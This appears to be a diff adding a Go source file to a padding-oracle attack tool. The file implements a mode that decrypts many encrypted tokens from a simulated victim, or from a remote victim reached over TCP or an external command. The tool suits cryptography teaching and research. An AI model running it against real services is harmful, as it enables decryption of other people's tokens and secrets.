@@ -0,0 +1,288 @@
+//
+// SPDX-FileCopyrightText: Copyright 2026 Frank Schwab
+//
+// SPDX-License-Identifier: Apache-2.0
+//
+// SPDX-FileType: SOURCE
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// You may not use this file except in compliance with the License.
+//
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+//
+// Author: Frank Schwab
+//
+// Version: 1.4.1
+//
+// Change history:
+//    2026-10-18: V1.0.0: Created.
+//    2026-10-18: V1.1.0: Use the block size of the victim's cipher.
+//    2026-10-18: V1.2.0: Ask an external command instead of the victim.
+//    2026-10-18: V1.3.0: Ask a victim in server mode over TCP.
+//    2026-10-18: V1.4.0: Always retry failed queries to a remote victim.
+//    2026-10-18: V1.4.1: Wait at most the answer timeout for a victim in server mode.
+//
+
+// This file contains the mode that cracks many encrypted tokens with a shared padding oracle.
+//
+// The intermediate bytes of an encrypted block do not depend on the initialization vector,
+// so a block that occurs in several tokens only needs to be cracked once.
+// This happens with tokens that are sent more than once and with tokens that begin with the same text
+// and are encrypted with the same initialization vector.
+
+package main
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"math"
+	"os"
+	"os/signal"
+	"padora/attack"
+	"padora/numberformat"
+	"padora/oracle"
+	"padora/randomsource"
+	"padora/victim"
+	"strings"
+	"time"
+)
+
+// ******** Private constants ********
+
+// campaignTokenCount is the number of distinct tokens the victim issues in the campaign mode.
+const campaignTokenCount = 6
+
+// campaignTokenPrefix is the text every token of the campaign mode begins with.
+const campaignTokenPrefix = `{"issuer":"padora","role":"user","id":"`
+
+// campaignTokenSuffix is the text every token of the campaign mode ends with.
+const campaignTokenSuffix = `"}`
+
+// campaignTokenTailLength is the number of bytes at the end of a token that are shown.
+const campaignTokenTailLength = 12
+
+// ******** Public functions ********
+
+// RunCampaign cracks many encrypted tokens with a shared padding oracle.
+// If no tokens file is specified, the victim issues tokens with the same initialization vector,
+// one of which is sent twice.
+// Cracking can be cancelled with Ctrl-C.
+func RunCampaign(options *Options) {
+	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
+	defer stop()
+
+	// 1. - 3. Read the tokens or let the victim issue them.
+	var secretMessages [][]byte
+	var tokens [][]byte
+	if len(options.TokensPath) != 0 {
+		var err error
+		tokens, err = readTokens(options.TokensPath)
+		if err != nil {
+			fmt.Printf("Unable to read tokens '%s': %v\n", options.TokensPath, err)
+			return
+		}
+
+		fmt.Printf("\nRead %s tokens from '%s'\n", numberformat.FormatInt(len(tokens)), options.TokensPath)
+	} else {
+		secretMessages, tokens = issueTokens(options)
+		fmt.Printf("\nThe victim issued %s tokens\n", numberformat.FormatInt(len(tokens)))
+	}
+
+	// 4. Crack all tokens with a padding oracle that asks the victim.
+	//    Note that the cracker does *not* know the key, the block size or the padding scheme!
+	blockSize := victim.BlockSize()
+	var target oracle.PaddingOracle = victim.NewLocalPaddingOracle(blockSize)
+	if len(options.ConnectAddress) != 0 {
+		tcpOracle, err := oracle.NewTcpPaddingOracle(options.ConnectAddress, oracle.TcpOptions{AnswerTimeout: remoteAnswerTimeout})
+		if err != nil {
+			fmt.Printf("Unable to connect to '%s': %v\n", options.ConnectAddress, err)
+			return
+		}
+
+		defer func() { _ = tcpOracle.Close() }()
+		target = remoteReliableOracle(tcpOracle, options)
+	} else if options.Command != nil {
+		commandOracle, err := oracle.NewCommandOracle(options.Command, oracle.CommandOptions{Persistent: options.Persistent})
+		if err != nil {
+			fmt.Printf("Unable to run command '%s': %v\n", options.Command[0], err)
+			return
+		}
+
+		defer func() { _ = commandOracle.Close() }()
+		target = remoteReliableOracle(oracle.NewPatternPaddingOracle(commandOracle, options.InvalidPattern, nil), options)
+	} else if options.IsNoisy() {
+		target = oracle.NewReliablePaddingOracle(victim.NewNoisyPaddingOracle(target,
+			options.FalsePositiveRate,
+			options.FalseNegativeRate,
+			options.ErrorRate),
+			options.Reliability)
+	}
+
+	limits := options.Limits
+	limits.Observers = append(limits.Observers, attack.ObserverFunc(showProgress))
+	startTime := time.Now()
+	result, err := attack.CrackCampaign(ctx, target, tokens, limits)
+	elapsedTime := time.Since(startTime)
+
+	// 5. Show the clear text of every token and check it, if the secret messages are known.
+	showCampaignEntries(result.Entries, secretMessages)
+
+	fmt.Println()
+	var stoppedError *attack.StoppedError
+	switch {
+	case errors.As(err, &stoppedError):
+		fmt.Println(`!!!! Cracking stopped before all tokens were retrieved !!!!`)
+		fmt.Println(err)
+
+	case err != nil:
+		fmt.Println(`!!!! Unable to crack the tokens !!!!`)
+		fmt.Println(err)
+
+	case secretMessages != nil && countCorrectEntries(result.Entries, secretMessages) == len(secretMessages):
+		fmt.Println(`>>>> All tokens successfully retrieved! <<<<`)
+
+	case secretMessages != nil:
+		fmt.Printf("!!!! Only %s of %s tokens retrieved correctly !!!!\n",
+			numberformat.FormatInt(countCorrectEntries(result.Entries, secretMessages)),
+			numberformat.FormatInt(len(secretMessages)))
+
+	default:
+		fmt.Println(`>>>> Tokens retrieved <<<<`)
+	}
+
+	// 6. Show some statistics.
+	showCampaignStatistics(result, elapsedTime)
+}
+
+// ******** Private functions ********
+
+// readTokens reads hex encoded tokens from a file, one per line.
+// Empty lines are skipped.
+func readTokens(path string) ([][]byte, error) {
+	file, err := os.Open(path)
+	if err != nil {
+		return nil, err
+	}
+
+	defer func() { _ = file.Close() }()
+
+	var result [][]byte
+	scanner := bufio.NewScanner(file)
+	lineNumber := 0
+	for scanner.Scan() {
+		lineNumber++
+		line := strings.TrimSpace(scanner.Text())
+		if len(line) == 0 {
+			continue
+		}
+
+		token, err := hex.DecodeString(line)
+		if err != nil {
+			return nil, fmt.Errorf("line %d: %w", lineNumber, err)
+		}
+
+		result = append(result, token)
+	}
+
+	return result, scanner.Err()
+}
+
+// issueTokens lets the victim encrypt a number of secret tokens that all begin with the same text.
+// Unless an initialization vector is specified, the victim uses a random one for all tokens.
+// The second token is sent twice.
+// It returns the secret messages and the tokens.
+func issueTokens(options *Options) ([][]byte, [][]byte) {
+	blockSize := victim.BlockSize()
+	if options.IV == nil {
+		iv := make([]byte, blockSize)
+		randomsource.Bytes(iv)
+		_ = victim.UseIV(iv)
+	}
+
+	secretMessages := make([][]byte, 0, campaignTokenCount+1)
+	tokens := make([][]byte, 0, campaignTokenCount+1)
+	for i := 0; i < campaignTokenCount; i++ {
+		secretMessage := []byte(campaignTokenPrefix + string(makeSecretText(options.NumBlocks, blockSize)) + campaignTokenSuffix)
+		secretMessages = append(secretMessages, secretMessage)
+		tokens = append(tokens, victim.PadAndEncrypt(secretMessage, blockSize))
+	}
+
+	secretMessages = append(secretMessages, secretMessages[1])
+	tokens = append(tokens, tokens[1])
+
+	return secretMessages, tokens
+}
+
+// showCampaignEntries shows a table with the end of every token and its clear text.
+// If the secret messages are known, it is shown, whether the clear text is correct.
+func showCampaignEntries(entries []attack.CampaignEntry, secretMessages [][]byte) {
+	fmt.Println()
+	fmt.Println(`    #  Token                       Queries  Cracked  Reused  Clear text`)
+	for i, entry := range entries {
+		clearText := fmt.Sprintf("%q", entry.ClearMessage)
+		if entry.Err != nil {
+			clearText = `!!!! ` + entry.Err.Error()
+		} else if secretMessages != nil && !bytes.Equal(entry.ClearMessage, secretMessages[i]) {
+			clearText += ` (wrong)`
+		}
+
+		fmt.Printf("%5d  %-26s  %7s  %7d  %6d  %s\n",
+			i+1,
+			tokenTail(entry.EncryptedMessage),
+			numberformat.FormatInt(entry.QueryCount),
+			entry.CrackedBlockCount,
+			entry.ReusedBlockCount,
+			clearText)
+	}
+}
+
+// tokenTail returns the hex encoded last bytes of a token.
+func tokenTail(token []byte) string {
+	if len(token) <= campaignTokenTailLength {
+		return hex.EncodeToString(token)
+	}
+
+	return `..` + hex.EncodeToString(token[len(token)-campaignTokenTailLength:])
+}
+
+// countCorrectEntries counts the entries whose clear message is the secret message.
+func countCorrectEntries(entries []attack.CampaignEntry, secretMessages [][]byte) int {
+	result := 0
+	for i, entry := range entries {
+		if entry.Err == nil && bytes.Equal(entry.ClearMessage, secretMessages[i]) {
+			result++
+		}
+	}
+
+	return result
+}
+
+// showCampaignStatistics shows the number of queries and blocks of a campaign.
+func showCampaignStatistics(result *attack.CampaignResult, elapsedTime time.Duration) {
+	fmt.Println()
+	fmt.Printf("%s blocks cracked and %s blocks reused.\n",
+		numberformat.FormatInt(result.CrackedBlockCount),
+		numberformat.FormatInt(result.ReusedBlockCount))
+	fmt.Printf("%s decryption calls needed %v, %s of them for the detection.",
+		numberformat.FormatInt(result.QueryCount),
+		elapsedTime,
+		numberformat.FormatInt(result.DetectionQueryCount))
+	if result.CrackedBlockCount != 0 {
+		fmt.Printf(" This means %s calls per cracked block.",
+			numberformat.FormatInt(int(math.Round(float64(result.QueryCount-result.DetectionQueryCount)/float64(result.CrackedBlockCount)))))
+	}
+
+	fmt.Println()
+}